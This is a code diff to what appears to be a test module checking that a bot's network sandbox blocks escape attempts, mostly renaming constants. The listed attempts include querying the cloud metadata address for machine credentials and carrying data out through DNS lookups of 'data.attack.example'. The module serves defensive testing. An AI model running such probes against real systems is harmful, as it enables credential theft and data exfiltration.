@@ -7,10 +7,10 @@ from pathlib import Path
 from bot.domain.walls import Targets
 
 _SECONDS = 1.0
-_METADATA = ("169.254.169.254", 80)
-_SLACK = ("slack.com", 443)
-_NAME_SERVER = "192.0.2.53"
-_OUTSIDE = ("192.0.2.1", 443)
+METADATA = ("169.254.169.254", 80)
+SLACK = ("slack.com", 443)
+NAME_SERVER = ("192.0.2.53", 53)
+OUTSIDE = ("192.0.2.1", 443)
 """TEST-NET-1 (RFC 5737): nobody is there, so what is told is the machine's own answer."""
 
 
@@ -20,10 +20,10 @@ def attempts(targets: Targets) -> Mapping[str, Callable[[], object]]:
         "connect to a port of the bot's": lambda: _connect("127.0.0.1", targets.port),
         "connect to a unix socket of the bot's": lambda: _unix(str(Path(targets.beside, "bot"))),
         "connect to an abstract socket of the bot's": lambda: _unix(f"\0{targets.abstract}"),
-        "connect to a host that is not allowed": lambda: _connect(*_OUTSIDE),
-        "post to another client's Slack channel": lambda: _connect(*_SLACK),
-        "ask the cloud for the machine's credentials": lambda: _connect(*_METADATA),
-        "send a datagram": lambda: _sent(_NAME_SERVER),
+        "connect to a host that is not allowed": lambda: _connect(*OUTSIDE),
+        "post to another client's Slack channel": lambda: _connect(*SLACK),
+        "ask the cloud for the machine's credentials": lambda: _connect(*METADATA),
+        "send a datagram": lambda: _sent(NAME_SERVER),
         "carry data out in the names it looks up (DNS)": lambda: socket.getaddrinfo(
             "data.attack.example", 443
         ),
@@ -49,9 +49,9 @@ def _unix(address: str) -> None:
         made.connect(address)
 
 
-def _sent(address: str) -> None:
+def _sent(address: tuple[str, int]) -> None:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
-        made.sendto(b"x", (address, 53))
+        made.sendto(b"x", address)
 
 
 def _listening() -> None:
